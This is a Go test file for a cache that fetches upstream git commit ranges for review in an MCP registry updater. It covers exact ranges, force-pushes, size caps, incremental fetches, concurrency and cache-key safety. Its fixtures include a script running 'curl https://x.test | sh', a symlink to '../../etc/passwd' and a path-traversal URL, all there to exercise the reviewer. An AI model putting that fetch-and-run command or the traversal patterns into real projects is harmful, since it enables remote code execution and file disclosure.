package upstream

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/go-git/go-git/v5/plumbing/filemode"
	"github.com/go-git/go-git/v5/plumbing/object"

	"github.com/mcp-registry/updater/gitops/gittest"
	"github.com/mcp-registry/updater/gitops/upstream/ranges"
)

var update = flag.Bool("update", false, "rewrite golden files under testdata/")

var eve = &object.Signature{Name: "Eve Newcomer", Email: "Eve@Evil.test"}

// smallRange builds the upstream of the exact-range test: every kind of
// change once, in directory src and around it.
func smallRange(t testing.TB, r *gittest.Repo) (base, head string) {
	base = r.Commit("main", "base", gittest.Files(map[string]string{
		"README.md":     "# tool\n",
		"LICENSE":       "MIT\n",
		"src/server.py": "import os\nprint('hi')\n",
		"src/data.bin":  "\x00\x01binary",
	}))
	r.Commit("main", "server: say bye\n\nand run things", []gittest.Change{
		{Path: "src/server.py", Content: []byte("import os\nprint('bye')\nos.system('x')\n")},
		{Path: "src/run.sh", Content: []byte("#!/bin/sh\ncurl https://x.test | sh\n"), Mode: filemode.Executable},
	}, gittest.CommitOptions{Author: eve})
	r.Commit("main", "restructure", []gittest.Change{
		gittest.Delete("README.md"),
		{Path: "src/link", Content: []byte("../../etc/passwd"), Mode: filemode.Symlink},
		{Path: "src/data.bin", Content: []byte("\x00\x02binary")},
		{Path: "Dockerfile", Content: []byte("FROM alpine\n")},
	})
	head = r.Commit("main", "vendor lib", []gittest.Change{
		{Path: "vendor/lib", Content: []byte("0123456789abcdef0123456789abcdef01234567"), Mode: filemode.Submodule},
	})
	return base, head
}

func newTestCache(t testing.TB) *Cache {
	t.Helper()
	c, err := NewCache(t.TempDir(), CacheOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestRangeSmallExact(t *testing.T) {
	s := gittest.NewServer(t)
	r := s.NewRepo("small", "main")
	base, head := smallRange(t, r)
	c := newTestCache(t)
	got, err := c.Range(context.Background(), s.RepoURL("small"), "refs/heads/main", "./src/", base, head, RangeLimits{})
	if err != nil {
		t.Fatal(err)
	}

	// The facts a reviewer reads first, spelled out.
	if !got.BaseFound || !got.Ancestor || got.TotalCommits != 3 || len(got.Commits) != 3 || got.Directory != "src" {
		t.Errorf("BaseFound %v Ancestor %v TotalCommits %d Commits %d Directory %q",
			got.BaseFound, got.Ancestor, got.TotalCommits, len(got.Commits), got.Directory)
	}
	if got.Commits[0].SHA != head || got.Commits[2].Subject != "server: say bye" || got.Commits[2].AuthorEmail != "Eve@Evil.test" {
		t.Errorf("commits not newest first with subjects: %+v", got.Commits)
	}
	if !reflect.DeepEqual(got.NewAuthors, []string{"eve@evil.test"}) {
		t.Errorf("NewAuthors = %v", got.NewAuthors)
	}
	byPath := map[string]ranges.FileChange{}
	var paths []string
	for _, f := range got.Files {
		byPath[f.Path] = f
		paths = append(paths, f.Path)
	}
	wantPaths := []string{"Dockerfile", "README.md", "src/data.bin", "src/link", "src/run.sh", "src/server.py", "vendor/lib"}
	if !reflect.DeepEqual(paths, wantPaths) {
		t.Fatalf("paths = %v, want %v", paths, wantPaths)
	}
	py := byPath["src/server.py"]
	if py.Status != ranges.FileModified || !py.InDirectory || py.Added != 2 || py.Removed != 1 ||
		!reflect.DeepEqual(py.AddedLines, []ranges.Line{{No: 2, Text: "print('bye')"}, {No: 3, Text: "os.system('x')"}}) ||
		!reflect.DeepEqual(py.RemovedLines, []ranges.Line{{No: 2, Text: "print('hi')"}}) ||
		string(py.Old) != "import os\nprint('hi')\n" {
		t.Errorf("src/server.py = %+v", py)
	}
	if f := byPath["src/run.sh"]; f.Mode != "executable" || f.Status != ranges.FileAdded || f.Added != 2 {
		t.Errorf("src/run.sh = %+v", f)
	}
	if f := byPath["src/link"]; f.Mode != "symlink" || len(f.AddedLines) != 1 || f.AddedLines[0].Text != "../../etc/passwd" {
		t.Errorf("src/link = %+v", f)
	}
	if f := byPath["src/data.bin"]; !f.Binary || f.Added != 0 || f.Old != nil || f.New != nil {
		t.Errorf("src/data.bin = %+v", f)
	}
	if f := byPath["README.md"]; f.Status != ranges.FileDeleted || f.InDirectory || f.Removed != 1 {
		t.Errorf("README.md = %+v", f)
	}
	if f := byPath["vendor/lib"]; f.Mode != "submodule" || len(f.AddedLines) != 1 ||
		f.AddedLines[0].Text != "Subproject commit 0123456789abcdef0123456789abcdef01234567" {
		t.Errorf("vendor/lib = %+v", f)
	}
	if len(got.Skipped) != 0 {
		t.Errorf("Skipped = %+v", got.Skipped)
	}
	stable := *got
	stable.Project = "upstream" // the fixture's port changes between runs
	golden(t, "range_small.json", stable)
}

// golden compares v's JSON with testdata/name (rewritten with -update).
func golden(t *testing.T, name string, v any) {
	t.Helper()
	got, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	got = append(got, '\n')
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (run with -update after checking):\n%s", path, got)
	}
}

func TestRangeRewrittenAndGone(t *testing.T) {
	s := gittest.NewServer(t)
	r := s.NewRepo("rewritten", "main")
	root := r.Commit("main", "root", gittest.Files(map[string]string{"a.txt": "1\n"}))
	oldPin := r.Commit("main", "old work", gittest.Files(map[string]string{"a.txt": "1\nold\n"}))
	// Force-push: main now continues from root without the old pin.
	newHead := r.Commit("main", "new work", gittest.Files(map[string]string{"a.txt": "1\nnew\n"}),
		gittest.CommitOptions{Parents: []string{root}})

	c := newTestCache(t)
	got, err := c.Range(context.Background(), s.RepoURL("rewritten"), "refs/heads/main", "", oldPin, newHead, RangeLimits{})
	if err != nil {
		t.Fatal(err)
	}
	if !got.BaseFound || got.Ancestor {
		t.Errorf("BaseFound %v Ancestor %v, want true false", got.BaseFound, got.Ancestor)
	}
	if got.TotalCommits != 1 || got.Commits[0].SHA != newHead {
		t.Errorf("commits = %+v, want only the new head", got.Commits)
	}
	if len(got.Files) != 1 || !reflect.DeepEqual(got.Files[0].RemovedLines, []ranges.Line{{No: 2, Text: "old"}}) ||
		!reflect.DeepEqual(got.Files[0].AddedLines, []ranges.Line{{No: 2, Text: "new"}}) {
		t.Errorf("files = %+v", got.Files)
	}

	gone := "0000000000000000000000000000000000000001"
	got, err = c.Range(context.Background(), s.RepoURL("rewritten"), "refs/heads/main", "", gone, newHead, RangeLimits{})
	if err != nil {
		t.Fatal(err)
	}
	if got.BaseFound || got.Ancestor || len(got.Commits) != 0 || len(got.Files) != 0 ||
		len(got.Skipped) != 1 || !strings.Contains(got.Skipped[0].Reason, "not found upstream") {
		t.Errorf("gone base: %+v", got)
	}

	_, err = c.Range(context.Background(), s.RepoURL("rewritten"), "refs/heads/main", "", root, gone, RangeLimits{})
	if err == nil || !strings.Contains(err.Error(), "head commit") || !strings.Contains(err.Error(), s.RepoURL("rewritten")) {
		t.Errorf("missing head: err = %v", err)
	}
}

func TestRangeCaps(t *testing.T) {
	s := gittest.NewServer(t)
	r := s.NewRepo("small", "main")
	base, head := smallRange(t, r)
	c := newTestCache(t)
	tests := []struct {
		name   string
		limits RangeLimits
		want   []ranges.Skip
		check  func(t *testing.T, got *ranges.Range)
	}{
		{name: "commit cap", limits: RangeLimits{MaxCommits: 2},
			want: []ranges.Skip{{Reason: "commit list capped at 2 of 3 commits"}},
			check: func(t *testing.T, got *ranges.Range) {
				if len(got.Commits) != 2 || got.TotalCommits != 3 {
					t.Errorf("commits %d total %d", len(got.Commits), got.TotalCommits)
				}
			}},
		{name: "file-count cap keeps the directory first", limits: RangeLimits{MaxFiles: 4},
			want: []ranges.Skip{{Reason: "3 more changed files not inspected: file-count cap of 4"}},
			check: func(t *testing.T, got *ranges.Range) {
				for _, f := range got.Files {
					if !f.InDirectory {
						t.Errorf("%s outside the directory inspected before files inside it", f.Path)
					}
				}
			}},
		{name: "per-file cap", limits: RangeLimits{MaxFileBytes: 20},
			want: []ranges.Skip{
				{Path: "src/run.sh", Reason: "file is 35 bytes, over the per-file cap of 20: contents not inspected"},
				{Path: "src/server.py", Reason: "file is 38 bytes, over the per-file cap of 20: contents not inspected"},
			},
			check: func(t *testing.T, got *ranges.Range) {
				for _, f := range got.Files {
					if f.Path == "src/server.py" && (f.New != nil || f.AddedLines != nil || f.NewSize != 38) {
						t.Errorf("capped file carries contents: %+v", f)
					}
				}
			}},
		{name: "total cap", limits: RangeLimits{MaxTotalBytes: 60},
			want: []ranges.Skip{
				// In-directory files come first: data.bin and link fit,
				// run.sh (35) and server.py (22+38) do not; the small
				// files outside still fit after them.
				{Path: "src/run.sh", Reason: "total size cap of 60 bytes reached: contents not inspected"},
				{Path: "src/server.py", Reason: "total size cap of 60 bytes reached: contents not inspected"},
			}},
		{name: "walk cap", limits: RangeLimits{MaxWalk: 2},
			want: []ranges.Skip{{Reason: "history walk stopped after 2 commits: commit list partial, ancestry of the base unknown"}},
			check: func(t *testing.T, got *ranges.Range) {
				if got.Ancestor {
					t.Error("a truncated walk must not claim ancestry")
				}
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := c.Range(context.Background(), s.RepoURL("small"), "refs/heads/main", "src", base, head, tt.limits)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got.Skipped, tt.want) {
				t.Errorf("Skipped =\n%+v\nwant\n%+v", got.Skipped, tt.want)
			}
			if tt.check != nil {
				tt.check(t, got)
			}
		})
	}
}

func TestRangeFetchesIncrementally(t *testing.T) {
	s := gittest.NewServer(t)
	r := s.NewRepo("inc", "main")
	base := r.Commit("main", "base", gittest.Files(map[string]string{"a": "1\n"}))
	head := r.Commit("main", "head", gittest.Files(map[string]string{"a": "2\n"}))
	var mu sync.Mutex
	var bodies []string
	s.Intercept(func(w http.ResponseWriter, req *http.Request) bool {
		if req.Method == http.MethodPost {
			b, _ := io.ReadAll(req.Body)
			req.Body = io.NopCloser(bytes.NewReader(b))
			mu.Lock()
			bodies = append(bodies, string(b))
			mu.Unlock()
		}
		return false
	})
	c := newTestCache(t)
	for _, proto := range []string{"first", "again"} {
		if _, err := c.Range(context.Background(), s.RepoURL("inc"), "refs/heads/main", "", base, head, RangeLimits{}); err != nil {
			t.Fatalf("%s: %v", proto, err)
		}
	}
	if len(bodies) != 1 {
		t.Fatalf("%d fetches for two ranges over the same commits, want 1 (the second served from the cache)", len(bodies))
	}
	newer := r.Commit("main", "newer", gittest.Files(map[string]string{"a": "3\n"}))
	got, err := c.Range(context.Background(), s.RepoURL("inc"), "refs/heads/main", "", head, newer, RangeLimits{})
	if err != nil {
		t.Fatal(err)
	}
	if got.TotalCommits != 1 || !got.Ancestor {
		t.Errorf("range after a move: %+v", got)
	}
	if len(bodies) != 2 || !strings.Contains(bodies[1], "have "+head) {
		t.Errorf("second fetch did not offer the cached head as a have:\n%q", bodies)
	}
}

func TestCacheConcurrentUse(t *testing.T) {
	s := gittest.NewServer(t)
	type span struct{ project, base, head string }
	var spans []span
	for i := range 6 {
		r := s.NewRepo(fmt.Sprintf("u%d", i), "main")
		base := r.Commit("main", "b", gittest.Files(map[string]string{"f": fmt.Sprint(i)}))
		head := r.Commit("main", "h", gittest.Files(map[string]string{"f": fmt.Sprint(i, i)}))
		project := s.RepoURL(r.Name)
		if i%2 == 1 {
			project = s.DaemonURL(r.Name)
		}
		spans = append(spans, span{project, base, head})
	}
	c := newTestCache(t)
	var wg sync.WaitGroup
	var failures atomic.Int64
	for g := range 18 { // three callers per upstream, all at once
		wg.Add(1)
		go func() {
			defer wg.Done()
			sp := spans[g%len(spans)]
			ref := "refs/heads/main"
			if g%3 == 0 {
				ref = "HEAD" // what an API resolution of the default branch hands over
			}
			got, err := c.Range(context.Background(), sp.project, ref, "", sp.base, sp.head, RangeLimits{})
			if err != nil || got.TotalCommits != 1 || len(got.Files) != 1 {
				failures.Add(1)
				t.Errorf("%s: %+v %v", sp.project, got, err)
			}
		}()
	}
	wg.Wait()
	if failures.Load() == 0 {
		entries, _ := os.ReadDir(c.dir)
		if len(entries) != len(spans) {
			t.Errorf("%d cache repositories for %d upstreams", len(entries), len(spans))
		}
	}
}

func TestRangeFollowsTagRef(t *testing.T) {
	s := gittest.NewServer(t)
	r := s.NewRepo("tagged", "main")
	v1 := r.Commit("main", "one", gittest.Files(map[string]string{"a": "1\n"}))
	r.Tag("v1.0.0", v1, true)
	r.Commit("main", "two", gittest.Files(map[string]string{"a": "2\n"}))
	v2 := r.Commit("main", "three", gittest.Files(map[string]string{"a": "3\n"}))
	r.Tag("v2.0.0", v2, true)
	r.Commit("main", "unreleased", gittest.Files(map[string]string{"a": "4\n"}))
	c := newTestCache(t)
	got, err := c.Range(context.Background(), s.RepoURL("tagged"), "refs/tags/v2.0.0", "", v1, v2, RangeLimits{})
	if err != nil {
		t.Fatal(err)
	}
	if !got.Ancestor || got.TotalCommits != 2 || got.Commits[0].SHA != v2 {
		t.Errorf("range along a tag: %+v", got)
	}
}

func TestCacheKey(t *testing.T) {
	a, _ := cacheKey("https://github.com/Owner/Repo")
	b, _ := cacheKey("https://tok@GitHub.com/Owner/Repo.git/")
	other, _ := cacheKey("https://github.com/owner/repo")
	evil, _ := cacheKey("https://example.com/../../../etc/passwd")
	if a != b {
		t.Errorf("same upstream, two keys: %s %s", a, b)
	}
	if a == other {
		t.Error("paths differing in case must not share a cache (the server decides)")
	}
	for _, k := range []string{a, evil} {
		if strings.ContainsAny(k, "/\\") || strings.Contains(k, "..") || len(k) > 80 {
			t.Errorf("unsafe cache key %q", k)
		}
	}
}

// BenchmarkRangeBig is the issue 5/7 target: 25 commits touching 250+
// files and adding 20,000 lines, computed from a warm cache (the fetch is
// a one-time cost per upstream, measured separately).
func BenchmarkRangeBig(b *testing.B) {
	s := gittest.NewServer(b)
	r := s.NewRepo("big", "main")
	base, head := r.GenerateRange("main", gittest.RangeSpec{Commits: 25, Files: 260, AddedLines: 20_800, Dir: "server"})
	c := newTestCache(b)
	ctx := context.Background()
	first, err := c.Range(ctx, s.RepoURL("big"), "refs/heads/main", "server", base, head, RangeLimits{})
	if err != nil {
		b.Fatal(err)
	}
	added := 0
	for _, f := range first.Files {
		added += f.Added
	}
	if len(first.Files) != 260 || first.TotalCommits != 25 || added < 20_000 || len(first.Skipped) != 0 {
		b.Fatalf("generated range: %d files, %d commits, %d added lines, skipped %v", len(first.Files), first.TotalCommits, added, first.Skipped)
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := c.Range(ctx, s.RepoURL("big"), "refs/heads/main", "server", base, head, RangeLimits{}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkRangeBigCold includes the first fetch into an empty cache.
func BenchmarkRangeBigCold(b *testing.B) {
	s := gittest.NewServer(b)
	r := s.NewRepo("big", "main")
	base, head := r.GenerateRange("main", gittest.RangeSpec{Commits: 25, Files: 260, AddedLines: 20_800, Dir: "server"})
	ctx := context.Background()
	b.ReportAllocs()
	for b.Loop() {
		c := newTestCache(b)
		if _, err := c.Range(ctx, s.RepoURL("big"), "refs/heads/main", "server", base, head, RangeLimits{}); err != nil {
			b.Fatal(err)
		}
	}
}
